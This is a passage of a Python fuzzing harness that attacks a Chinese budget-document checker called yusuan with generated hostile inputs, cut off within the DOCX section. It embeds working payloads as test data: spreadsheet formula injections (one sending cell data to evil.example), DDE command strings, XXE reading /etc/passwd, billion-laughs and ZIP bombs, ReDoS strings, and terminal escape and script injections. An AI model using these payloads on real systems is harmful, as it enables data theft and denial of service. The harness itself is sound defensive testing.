"""An independent attack on yusuan (issue 11): a few hundred hostile inputs of every format yusuan reads,
each run alone and in mixed batches with good documents, with the checks a hostile user would make.

Run:  .venv/bin/python bench/attack.py [--jobs N] [--only PATTERN] [--keep DIR] [--no-batches]

Every input is generated here (standard library, pypdfium2, openpyxl, python-docx, PyYAML) into a
temporary folder: truncated and corrupted files, wrong extensions, ZIP and XML bombs, deep nesting,
span and merge bombs, broken and encrypted PDFs, page and grid bombs, enormous numbers, control
characters, bidi overrides, rich markup, ANSI escapes, spreadsheet formulas, <script>, long lines and
names, directories, symbolic links, FIFOs, devices, empty files, legitimate encodings (GBK, GB18030,
UTF-16, BOMs, CRLF) and hostile build sources (YAML bombs and tags, out-of-range values).

Each input runs alone in a new process (``yusuan check --format json``, ``yusuan check``, ``yusuan
extract`` in json, csv or xlsx; ``yusuan build`` for a source) with a 60 s wall budget and its peak
RSS measured (``os.wait4``: the child and every process it waited for), then in mixed batches with
good documents. For every run it asserts:

* no Python traceback on stdout or stderr, and no "internal error" message (a crash caught late);
* the exit code: 0 or 1 by the findings, 2 exactly when an input was unreadable or refused;
  a legitimate input (an encoding, a BOM, CRLF, a symbolic link to a good file) is read, with the
  same findings as the original;
* in a batch, every good document's findings are exactly those it has when checked alone, and
  extract still writes it;
* nothing from the document reaches the terminal raw: ESC, BEL, other C0 and C1 controls, CR,
  bidi overrides, U+2028/2029 in text output; rich markup printed as written, not interpreted;
* no file is written outside the output folder (the run's working folder, HOME and TMPDIR are
  fresh and inspected afterwards; the inputs are unchanged; a symbolic link's target is untouched);
* CSV and XLSX outputs carry no live formula; built Markdown/HTML carry no <script> or javascript:
  link from the source;
* at most 60 s and 1 GiB per run.

It prints a table of the failures (input, command, what went wrong) and a summary (inputs by format,
runs, failures by class, slowest run, largest RSS). It asserts nothing about speed beyond the budget.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import json
import os
import random
import re
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "examples"
SHARED = ROOT.parent / "shared"
CORPUS = SHARED / "corpus"
YUSUAN = [str(ROOT / ".venv" / "bin" / "yusuan")]
WALL = 60.0
RSS_LIMIT = 1024 * 1024 * 1024  # bytes
MARK = "ATTACKMARK"  # a word hostile markup wraps, to see whether the markup was interpreted

# Raw in text output, these let a document drive the terminal (C0 but tab/newline, DEL, C1, bidi
# overrides and isolates, line/paragraph separators).
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
PLAIN_NUMBER = re.compile(r"^[+-]?[\d,]*\.?\d+%?$")


# --------------------------------------------------------------------------------------------------
# cases


@dataclass
class Case:
    name: str  # unique; --only matches it
    fmt: str  # pdf docx xlsx xls html md txt source special
    path: Path
    kind: str = "doc"  # doc: check + extract; source: build
    expect: str = "any"  # read: must be read (exit 0/1); refuse: must be refused (exit 2); any
    same_as: Path | None = None  # a legitimate variant: same findings as this good document
    note: str = ""
    out_setup: Callable[[Path, Path], None] | None = None  # prepares the output folder of a run
    victim: Path | None = None  # must be unchanged after the run (a symbolic link's target)


class Gen:
    """Writes inputs into a folder and collects the cases."""

    def __init__(self, root: Path, rng: random.Random) -> None:
        self.root = root
        self.rng = rng
        self.cases: list[Case] = []
        self.errors: list[str] = []
        self.dir = root / "inputs"
        self.dir.mkdir(parents=True, exist_ok=True)

    def file(self, name: str, data: bytes | str, fmt: str, **kw: Any) -> Path:
        path = self.dir / name
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        self.cases.append(Case(name, fmt, path, **kw))
        return path

    def add(self, name: str, path: Path, fmt: str, **kw: Any) -> None:
        self.cases.append(Case(name, fmt, path, **kw))


# ---- helpers ---------------------------------------------------------------------------------------


def truncations(data: bytes, rng: random.Random, n: int) -> list[tuple[str, bytes]]:
    cuts = sorted({1, 10, len(data) // 2, len(data) - 1, *(rng.randrange(1, len(data)) for _ in range(n))})
    return [(f"cut{c}", data[:c]) for c in cuts[: n + 2]]


def flips(data: bytes, rng: random.Random, n: int, count: int) -> list[tuple[str, bytes]]:
    out = []
    for i in range(n):
        b = bytearray(data)
        for _ in range(count):
            j = rng.randrange(len(b))
            b[j] = rng.randrange(256)
        out.append((f"flip{i}", bytes(b)))
    return out


def zip_edit(
    data: bytes,
    edit: dict[str, Callable[[bytes], bytes]] | None = None,
    add: dict[str, bytes] | None = None,
    remove: Iterable[str] = (),
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A copy of a ZIP package with members edited, added or removed."""
    edit, add, gone = edit or {}, add or {}, set(remove)
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as dst:
        for info in src.infolist():
            if info.filename in gone or info.filename in add:
                continue
            content = src.read(info.filename)
            if info.filename in edit:
                content = edit[info.filename](content)
            dst.writestr(info.filename, content)
        for name, content in add.items():
            dst.writestr(name, content)
    return buf.getvalue()


def with_dtd(dtd: bytes, use: bytes = b"") -> Callable[[bytes], bytes]:
    """Put a DOCTYPE after the XML declaration (or first, when there is none) and, with ``use``,
    an entity reference at the start of the first text element."""

    def edit(b: bytes) -> bytes:
        decl = b.find(b"?>")
        at = decl + 2 if 0 <= decl < 200 else 0
        b = b[:at] + dtd + b[at:]
        return re.sub(rb"<(t|v)(\s[^>]*)?>", lambda m: m.group(0) + use, b, count=1) if use else b

    return edit


def sub_once(pattern: bytes, repl: bytes) -> Callable[[bytes], bytes]:
    return lambda b: re.sub(pattern, repl, b, count=1)


def pdf_file(
    objects: list[bytes], root: int = 1, trailer: bytes = b"", header: bytes = b"%PDF-1.7\n"
) -> bytes:
    """A PDF of numbered objects (1…n) with a correct xref table."""
    out = bytearray(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        trailer,
        xref,
    )
    return bytes(out)


def stream(body: bytes, extra: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        body = zlib.compress(body)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n" % (len(body), extra) + body + b"\nendstream"


def text_pdf(
    pages: list[list[tuple[float, float, str]]], size: float = 9, tounicode: bool = True, drawing: bytes = b""
) -> bytes:
    """A PDF whose text layer is any Unicode text: one Type0 font (Identity-H, not embedded) with a
    ToUnicode CMap that maps code i to the i-th distinct character. ``pages``: (x, y, text) runs."""
    chars: dict[str, int] = {}
    for page in pages:
        for _, _, text in page:
            for ch in text:
                chars.setdefault(ch, len(chars) + 1)
    bf = []
    items = list(chars.items())
    for i in range(0, len(items), 100):
        chunk = items[i : i + 100]
        bf.append(b"%d beginbfchar\n" % len(chunk))
        for ch, code in chunk:
            u = ch.encode("utf-16-be").hex().encode()
            bf.append(b"<%04x> <%s>\n" % (code, u))
        bf.append(b"endbfchar\n")
    cmap = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CIDSystemInfo << /Registry (Adobe) "
        b"/Ordering (UCS) /Supplement 0 >> def /CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
        b"1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
        + b"".join(bf)
        + b"endcmap CMapName currentdict /CMap defineresource pop end end"
    )
    n_pages = len(pages)
    # 1 catalog, 2 pages, 3 font, 4 cidfont, 5 cmap, then page/content pairs
    objs: list[bytes] = [b"", b"", b"", b"", b""]
    kids = []
    for page in pages:
        ops = [drawing, b"BT"] if drawing else [b"BT"]
        for x, y, text in page:
            hexs = b"".join(b"%04x" % chars[ch] for ch in text)
            ops.append(b"/F1 %g Tf 1 0 0 1 %g %g Tm <%s> Tj" % (size, x, y, hexs))
        ops.append(b"ET")
        content = b"\n".join(ops)
        page_no = len(objs) + 1
        kids.append(b"%d 0 R" % page_no)
        objs.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents %d 0 R >>" % (page_no + 1)
        )
        objs.append(stream(content, compress=True))
    objs[0] = b"<< /Type /Catalog /Pages 2 0 R >>"
    objs[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), n_pages)
    to_u = b" /ToUnicode 5 0 R" if tounicode else b""
    objs[2] = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /SimSun /Encoding /Identity-H /DescendantFonts [4 0 R]%s >>"
        % to_u
    )
    objs[3] = (
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /SimSun /CIDSystemInfo << /Registry (Adobe) "
        b"/Ordering (Identity) /Supplement 0 >> /DW 1000 /CIDToGIDMap /Identity >>"
    )
    objs[4] = stream(cmap)
    return pdf_file(objs)


def lines_to_pages(lines: list[str], per_page: int = 60) -> list[list[tuple[float, float, str]]]:
    """Text lines (tab-separated cells become columns) laid out on A4 pages."""
    pages: list[list[tuple[float, float, str]]] = []
    for start in range(0, max(len(lines), 1), per_page):
        runs = []
        for i, line in enumerate(lines[start : start + per_page]):
            y = 800 - i * 12.5
            if "\t" in line:
                for c, cell in enumerate(line.split("\t")):
                    if cell.strip():
                        runs.append((30 + c * 95, y, cell.strip()[:16]))
            elif line.strip():
                runs.append((30, y, line.strip()[:60]))
        pages.append(runs)
    return pages


def budget_lines(title: str = "2024年度清溪市某某局部门预算", hostile: str = "") -> list[str]:
    """A small disclosure-looking text: title, a total table, a narrative figure."""
    return [
        title,
        "第一部分 部门概况",
        f"一、部门主要职责{hostile}",
        "第二部分 2024年度部门预算表",
        "收支预算总表",
        "单位：万元",
        "项目\t预算数\t项目\t预算数",
        "一、一般公共预算拨款\t1,000.00\t一、一般公共服务支出\t1,000.00",
        f"{hostile or '二、政府性基金'}\t0.00\t二、教育支出\t0.00",
        "收入总计\t1,000.00\t支出总计\t1,000.00",
        "第三部分 情况说明",
        f"2024年收入预算1,000.00万元，比上年增加10.00万元。{hostile}",
    ]


# ---- text and markdown ----------------------------------------------------------------------------

HOSTILE_STRINGS = {
    "ansi": "\x1b[2J\x1b[31mRED\x1b]0;pwned\x07\x1b[0m",
    "bel": "叮\x07\x07\x07",
    "c1": "\x9b31m\x9d0;title\x9c\x85",
    "bidi": "\u202e部门\u202d\u2066预算\u2069\u200f",
    "cr": "伪造一行\r错误：0 个",
    "nul": "空\x00字符\x00",
    "rich": f"[bold red]{MARK}[/bold red][/bold][link=file:///etc/passwd]x[/link]",
    "richclose": "[/]",
    "formula": '=HYPERLINK("http://evil.example/?q="&A1,"点此")',
    "cmd": "+cmd|' /C calc'!A0",
    "atsum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dash": "-2+3+cmd|' /C calc'!A0",
    "tabformula": "\t=1+1",
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "jslink": "[点击](javascript:alert(1))",
    "lsep": "行\u2028分隔\u2029段",
    "longword": "经" * 100_000,
    "zalgo": "预" + "\u0301" * 5000,
}


def gen_text(g: Gen) -> None:
    good_md = (EXAMPLES / "culture_bureau_2024.md").read_bytes()
    good_text = good_md.decode("utf-8")
    rng = g.rng
    # legitimate encodings and line endings: same findings as the UTF-8 original
    good = EXAMPLES / "culture_bureau_2024.md"
    g.file("enc_gbk.md", good_text.encode("gbk"), "md", expect="read", same_as=good)
    g.file("enc_gb18030.txt", good_text.encode("gb18030"), "txt", expect="read", same_as=good)
    g.file("enc_utf8_bom.md", b"\xef\xbb\xbf" + good_md, "md", expect="read", same_as=good)
    g.file(
        "enc_utf16le_bom.txt", b"\xff\xfe" + good_text.encode("utf-16-le"), "txt", expect="read", same_as=good
    )
    g.file(
        "enc_utf16be_bom.md", b"\xfe\xff" + good_text.encode("utf-16-be"), "md", expect="read", same_as=good
    )
    g.file("enc_crlf.md", good_md.replace(b"\n", b"\r\n"), "md", expect="read", same_as=good)
    g.file("enc_cr_only.md", good_md.replace(b"\n", b"\r"), "md", expect="read", same_as=good)
    g.file(
        "enc_gbk_crlf_bom_less.txt",
        good_text.replace("\n", "\r\n").encode("gbk"),
        "txt",
        expect="read",
        same_as=good,
    )
    g.file("enc_utf16le_nobom.txt", good_text.encode("utf-16-le"), "txt")
    g.file("enc_utf32.txt", good_text.encode("utf-32"), "txt")
    g.file("enc_latin1_junk.txt", bytes(range(0x80, 0x100)) * 50, "txt")
    g.file("enc_big5.txt", good_text.encode("big5", "replace"), "txt")
    # empty and near-empty
    g.file("empty.md", b"", "md", expect="refuse")
    g.file("empty_bom.md", b"\xef\xbb\xbf", "md", expect="refuse")
    g.file("empty_utf16_bom.txt", b"\xff\xfe", "txt", expect="refuse")
    g.file("whitespace.txt", " \n\t\r\n\u3000".encode(), "txt", expect="refuse")
    g.file("nul_only.txt", b"\x00" * 1000, "txt", expect="refuse")
    g.file("one_char.md", b"#", "md")
    g.file("random_bytes.md", rng.randbytes(5000), "md")
    g.file("random_bytes.txt", rng.randbytes(200), "txt")
    # truncated and flipped
    for label, data in truncations(good_md, rng, 4):
        g.file(f"trunc_{label}.md", data, "md")
    for label, data in flips(good_md, rng, 3, 40):
        g.file(f"flipped_{label}.md", data, "md")
    # hostile strings in the title, a heading, a table cell and a sentence
    for key, s in HOSTILE_STRINGS.items():
        text = good_text.replace(
            "2024 年度清溪市云山区文化和旅游局部门预算", f"2024 年度清溪市云山区文化和旅游局{s}部门预算", 1
        )
        text = text.replace("# 目录", f"# 目录{s}", 1)
        text = text.replace("一、部门主要职责", f"一、部门主要职责{s}", 1)
        lines = text.split("\n")
        for i, line in enumerate(lines):  # the first data cell of the first table
            if "\t" in line and re.search(r"\d", line) and "....." not in line:
                cells = line.split("\t")
                cells[0] = s + cells[0]
                lines[i] = "\t".join(cells)
                break
        g.file(f"hostile_{key}.md", "\n".join(lines), "md")
    # a hostile heading with markup, every kind in one
    g.file(
        "hostile_all_heading.md",
        "# "
        + "".join(v for k, v in HOSTILE_STRINGS.items() if k not in ("longword", "zalgo"))
        + "\n"
        + good_text,
        "md",
    )
    # formulas in the column titles of a listing table (its headers are document text)
    listing = good_text.replace(
        "主管部门名称\t专项资金立项项目名称", f"{HOSTILE_STRINGS['formula']}\t{HOSTILE_STRINGS['cmd']}", 1
    ).replace(
        "备注：本部门 2024 年度没有由本部门管理的专项资金。",
        "\t".join(["文旅局", "=1+1", "@SUM(1)", HOSTILE_STRINGS["dash"], *"123456789"]),
    )
    g.file("hostile_listing_header.md", listing, "md")
    # regular expression bombs
    g.file("redos_dots.md", "目录\n" + "一、收支总表" + "." * 5000 + "x\n" + good_text, "md")
    g.file("redos_dots_long.md", "目录\n" + "." * 400_000 + "\n", "md")
    g.file("redos_commas.md", good_text + "\n项目名称 绩效指标" + "，" * 3000 + "\n", "md")
    g.file("redos_years.md", "2024年" * 40_000 + "\n", "md")
    g.file("redos_years_budget.md", good_text + "\n" + "2024年度部门预算" * 20_000 + "\n", "md")
    g.file("redos_digits.md", "2024年度某局部门预算\n" + "1," * 300_000 + "\n", "md")
    g.file("redos_hashes.md", "#" + " " * 100_000 + "#" * 100_000 + "x\n", "md")
    g.file("redos_spaces_hash.md", "# a" + " #" * 200_000 + "\n", "md")
    g.file("redos_brackets.md", "（" * 100_000 + "2024年预算" + "）" * 100_000 + "\n", "md")
    g.file("redos_percent.md", "2024年度某局部门预算\n增长" + "1." * 100_000 + "%\n", "md")
    g.file("redos_wanyuan.md", "2024年度某局部门预算\n" + "万元" * 100_000 + "\n", "md")
    g.file("redos_pipes.md", "|" * 500_000 + "\n", "md")
    g.file(
        "redos_pipe_row.md",
        "2024年度某局部门预算\n" + ("| " + " | ".join(["1.00"] * 5000) + " |\n") * 20,
        "md",
    )
    g.file("redos_tags.md", "<b" + " x" * 300_000 + "\n", "md")
    g.file("redos_lt.md", "<" * 500_000 + "\n", "md")
    g.file("redos_underscores.md", "一、收支总表" + "_" * 200_000 + "9\n", "md")
    g.file("redos_ellipsis.md", "一、收支总表" + "…" * 200_000 + "a\n", "md")
    g.file("redos_mixed_leader.md", "目录\n" + ("一、收支总表" + ".·…" * 130 + "\n") * 2000, "md")
    g.file("redos_chinese_numbers.md", "2024年度部门预算\n" + "一二三四五六七八九十" * 50_000 + "、\n", "md")
    g.file("redos_compare.md", "2024年度部门预算\n" + "比上年增加" * 50_000 + "\n", "md")
    g.file("redos_sentence.md", good_text + "\n" + ("一般公共预算拨款收入" + "、") * 30_000 + "\n", "md")
    g.file("redos_amount_units.md", "2024年度部门预算\n" + "1000.00万元，" * 60_000 + "\n", "md")
    g.file(
        "redos_ordinals.md",
        good_text + "\n收支预算总表\n项目\t预算数\n" + "一、" * 300_000 + "\t1.00\n",
        "md",
    )
    g.file("redos_ordinal_para.md", good_text + "\n" + "（一）" * 200_000 + "收入1.00万元。\n", "md")
    g.file("redos_codes.md", "2024年度部门预算\n" + "2010301" * 100_000 + "\n", "md")
    g.file(
        "redos_indicator.md",
        good_text + "\n" + "\t".join(["产出指标", "数量指标", "完成率" + "（" * 5000]) + "\n",
        "md",
    )
    # sizes
    g.file("huge_line_digits.txt", "2024年度部门预算\n" + "9" * 5_000_000 + "\n", "txt")
    g.file("many_lines.md", "2024年度部门预算\n" + "收入1.00万元。\n" * 300_000, "md")
    g.file("many_headings.md", "# 2024年度部门预算\n" * 200_000, "md")
    g.file("many_blank_lines.md", "\n" * 3_000_000 + "x", "md")
    g.file("wide_tab_table.md", "2024年度某局部门预算\n" + ("\t".join(["1.00"] * 1000) + "\n") * 1000, "md")
    g.file(
        "deep_table_1col.md",
        "收支预算总表\n" + "项目\t预算数\n" + "".join(f"{i}\t{i}.00\n" for i in range(200_000)),
        "md",
    )
    g.file(
        "amounts_60000.md",
        "2024年度部门预算\n收支预算总表\n" + "\t".join(f"{i}.00" for i in range(60_000)) + "\n",
        "md",
    )
    # numbers
    nums = [
        "1" + "0" * 26,
        "9" * 400,
        "1e999999",
        "-1e999999",
        "NaN",
        "Infinity",
        "-0.00",
        "１，０００．００",
        "(1,000.00)",
        "1.2.3",
        "1,,000",
        "0x1F",
        "1_000",
        "١٢٣",
        "Ⅻ",
        "1e-999999",
        "99999999999999999999.999999999",
    ]
    for i, n in enumerate(nums):
        lines = good_text.split("\n")
        hit = 0
        for j, line in enumerate(lines):
            if "\t" in line and re.search(r"\d[\d,]*\.\d\d", line) and "....." not in line:
                lines[j] = re.sub(r"\d[\d,]*\.\d\d", n, line, count=1)
                hit += 1
                if hit > 6:
                    break
        lines.append(f"2024年收入预算{n}万元，比上年增加{n}万元，增长{n}%。")
        g.file(f"number_{i:02d}.md", "\n".join(lines), "md")
    # not a disclosure
    g.file("readme.md", (ROOT / "README.md").read_bytes(), "md")
    g.file("letter.txt", "尊敬的领导：\n\n您好！这是一封信。\n此致\n敬礼\n", "txt")
    g.file("python_source.txt", Path(__file__).read_bytes(), "txt")
    # embedded HTML inside markdown
    g.file("md_html_unclosed_tables.md", "2024年度部门预算\n" + "<table>\n<tr><td>1</td>\n" * 5000, "md")
    g.file(
        "md_html_colspan.md",
        "2024年度部门预算\n<table>"
        + "<tr>"
        + '<td colspan="999999" rowspan="999999">1</td>' * 3000
        + "</tr></table>\n",
        "md",
    )
    g.file("md_html_cdata.md", "2024年度部门预算\n<table><![x[\n</table>\n", "md")
    g.file(
        "md_html_nested.md",
        "2024年度部门预算\n" + "<table><tr><td>" * 20_000 + "\n" + "</td></tr></table>" * 20_000 + "\n",
        "md",
    )


# ---- HTML --------------------------------------------------------------------------------------------


def md_to_html(md: str) -> str:
    out = ["<!DOCTYPE html><html><head><meta charset='utf-8'><title>预算</title></head><body>"]
    table: list[str] | None = None
    for line in md.split("\n"):
        if "\t" in line:
            table = table or []
            table.append("<tr>" + "".join(f"<td>{c}</td>" for c in line.split("\t")) + "</tr>")
            continue
        if table is not None:
            out.append("<table>" + "".join(table) + "</table>")
            table = None
        if line.startswith("#"):
            level = len(line) - len(line.lstrip("#"))
            out.append(f"<h{min(level, 6)}>{line.lstrip('#').strip()}</h{min(level, 6)}>")
        elif line.strip():
            out.append(f"<p>{line}</p>")
    if table is not None:
        out.append("<table>" + "".join(table) + "</table>")
    out.append("</body></html>")
    return "\n".join(out)


def gen_html(g: Gen, base: dict[str, Path]) -> None:
    rng = g.rng
    built = base.get("html")
    good_html = (
        built.read_text(encoding="utf-8")
        if built
        else md_to_html((EXAMPLES / "culture_bureau_2024.md").read_text(encoding="utf-8"))
    )
    head = "<!DOCTYPE html><html><head><meta charset='utf-8'></head><body><h1>2024年度某局部门预算</h1>"
    g.file("html_good_copy.html", good_html, "html", expect="read", same_as=built)
    g.file("html_gbk.html", good_html.replace("utf-8", "gbk").encode("gbk", "replace"), "html")
    g.file("html_as_txt.txt", good_html, "txt")
    g.file("html_as_htm.htm", good_html, "html", expect="read", same_as=built)
    for label, data in truncations(good_html.encode(), rng, 3):
        g.file(f"html_trunc_{label}.html", data, "html")
    for label, data in flips(good_html.encode(), rng, 2, 60):
        g.file(f"html_flip_{label}.html", data, "html")
    bombs = {
        "cdata": "<![x[",
        "bang": "<!" * 10_000,
        "endtag": "</" * 10_000,
        "unclosed_comment": "<!--" + "x" * 100_000,
        "pi": "<?xml " * 10_000,
        "deep_div": "<div>" * 200_000 + "x" + "</div>" * 200_000,
        "deep_table": "<table><tr><td>" * 30_000 + "1" + "</td></tr></table>" * 30_000,
        "colspan": "<table><tr>" + '<td colspan="1000000000">1</td>' * 5000 + "</tr></table>",
        "rowspan": "<table>" + ("<tr>" + '<td rowspan="99">1</td>' * 99 + "</tr>") * 3000 + "</table>",
        "spans_99": "<table>"
        + ("<tr>" + '<td colspan="99" rowspan="99">1</td>' * 200 + "</tr>") * 200
        + "</table>",
        "negative_span": "<table><tr><td colspan='-5' rowspan='0'>1</td><td colspan='1e9'>2</td><td colspan='٣'>3</td></tr></table>",
        "huge_attr": "<table><tr><td class='" + "a" * 20_000_000 + "'>1</td></tr></table>",
        "many_attrs": "<td " + " ".join(f"a{i}=1" for i in range(200_000)) + ">",
        "many_tables": "<table><tr><td>1</td></tr></table>" * 20_000,
        "many_cells": "<table><tr>" + "<td>1.00</td>" * 1_100_000 + "</tr></table>",
        "td_outside": "<td>1</td><tr><td>2</td></tr>" * 1000,
        "charref_controls": "<h1>&#x1b;[31m红&#7;&#x202e;反&#0;&#x9b;&#xd800;&#1114112;&#99999999999;</h1>",
        "entities": "<p>" + "&amp;" * 100_000 + "&bogus;" * 100_000 + "</p>",
        "script": "<script>" + "alert(1);" * 10_000 + "</script><p>&lt;script&gt;x</p>",
        "unterminated_script": "<script>" + "x" * 100_000,
        "style_nested": "<style><style><style>x</style>",
        "nul": "<p>\x00\x00空字符</p>",
        "rich": f"<h1>[bold]{MARK}[/bold][/]</h1><table><tr><td>[link=http://x]y[/link]</td></tr></table>",
        "formula_cells": "<table><tr><td>项目</td><td>预算数</td></tr>"
        + "".join(
            f"<tr><td>{v}</td><td>{v}</td></tr>"
            for v in (
                HOSTILE_STRINGS["formula"],
                HOSTILE_STRINGS["cmd"],
                HOSTILE_STRINGS["atsum"],
                HOSTILE_STRINGS["dash"],
            )
        )
        + "</table>",
        "nav_bomb": "<nav>" + "<li>" + "目录" * 10 + "</li>" * 50_000 + "</nav>",
        "headings_deep": "<h1><h2><h3><h4><h5><h6>" * 20_000,
        "svg_foreign": "<svg><foreignObject><table><tr><td>1</td></tr></table></foreignObject></svg>",
        "frameset": "<frameset><frame src='file:///etc/passwd'></frameset>",
        "base_meta": "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'><base href='javascript:'>",
        "huge_text_node": "<p>" + "预算" * 5_000_000 + "</p>",
    }
    for key, body in bombs.items():
        g.file(f"html_{key}.html", head + body + "</body></html>", "html")
    g.file(
        "html_no_doctype.htm", "<table><tr><td>一、一般公共预算拨款</td><td>1.00</td></tr></table>", "html"
    )
    g.file(
        "html_xhtml_entities.xhtml",
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><html><body><p>&lol2;</p></body></html>',
        "html",
    )
    g.file(
        "html_utf16.html",
        "\ufeff".encode("utf-16-le") + good_html.encode("utf-16-le"),
        "html",
        expect="read",
        same_as=built,
    )


# ---- DOCX --------------------------------------------------------------------------------------------


def minimal_docx(body_xml: str, extra: dict[str, bytes] | None = None) -> bytes:
    ns = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    doc = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {ns}><w:body>{body_xml}</w:body></w:document>'
    ct = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
        "</Relationships>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", rels)
        z.writestr("word/document.xml", doc)
        for k, v in (extra or {}).items():
            z.writestr(k, v)
    return buf.getvalue()


def w_p(text: str) -> str:
    from xml.sax.saxutils import escape

    return f'<w:p><w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r></w:p>'


def w_table(rows: list[list[str]], tcpr: str = "") -> str:
    from xml.sax.saxutils import escape

    body = "".join(
        "<w:tr>"
        + "".join(
            f"<w:tc><w:tcPr>{tcpr}</w:tcPr><w:p><w:r><w:t>{escape(c)}</w:t></w:r></w:p></w:tc>" for c in row
        )
        + "</w:tr>"
        for row in rows
    )
    return f"<w:tbl>{body}</w:tbl>"


def gen_docx(g: Gen, base: dict[str, Path]) -> None:
    rng = g.rng
    built = base.get("docx")
    if built is None:
        g.errors.append("docx: no built base docx")
        return
    data = built.read_bytes()
    doc_xml = "word/document.xml"
    g.file("docx_good_copy.docx", data, "docx", expect="read", same_as=built)
    g.file("docx_named_doc.doc", data, "docx")
    g.file("docx_named_txt.txt", data, "txt")
    g.file("docx_named_xlsx.xlsx", data, "xlsx")
    g.file("docx_named_pdf.pdf", data, "pdf")
    g.file(
        "docx_stored_uncompressed.docx",
        zip_edit(data, compression=zipfile.ZIP_STORED),
        "docx",
        expect="read",
        same_as=built,
    )
    for label, d in truncations(data, rng, 4):
        g.file(f"docx_trunc_{label}.docx", d, "docx")
    for label, d in flips(data, rng, 4, 20):
        g.file(f"docx_flip_{label}.docx", d, "docx")
    g.file(
        "docx_billion_laughs.docx",
        zip_edit(
            data,
            {
                doc_xml: lambda b: b.replace(
                    b"?>",
                    b'?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>',
                    1,
                ).replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>&h;</w:t></w:r></w:p>", 1)
            },
        ),
        "docx",
        expect="refuse",
    )
    g.file(
        "docx_xxe.docx",
        zip_edit(
            data,
            {
                doc_xml: lambda b: b.replace(
                    b"?>", b'?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1
                ).replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>", 1)
            },
        ),
        "docx",
        expect="refuse",
    )
    g.file(
        "docx_doctype_in_rels.docx",
        zip_edit(data, {"_rels/.rels": lambda b: b.replace(b"?>", b"?><!DOCTYPE r []>", 1)}),
        "docx",
    )
    g.file(
        "docx_zip_bomb.docx",
        zip_edit(data, add={"word/media/bomb.bin": b"\0" * (300 * 1024 * 1024)}),
        "docx",
        expect="refuse",
    )
    g.file(
        "docx_xml_bomb_member.docx",
        zip_edit(data, {doc_xml: lambda b: b.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 3_000_000, 1)}),
        "docx",
    )
    g.file(
        "docx_many_members.docx",
        zip_edit(data, add={f"word/x{i}.xml": b"<a/>" for i in range(12_000)}),
        "docx",
    )
    g.file("docx_no_document.docx", zip_edit(data, remove=[doc_xml]), "docx", expect="refuse")
    g.file(
        "docx_no_content_types.docx", zip_edit(data, remove=["[Content_Types].xml"]), "docx", expect="refuse"
    )
    g.file(
        "docx_document_not_xml.docx",
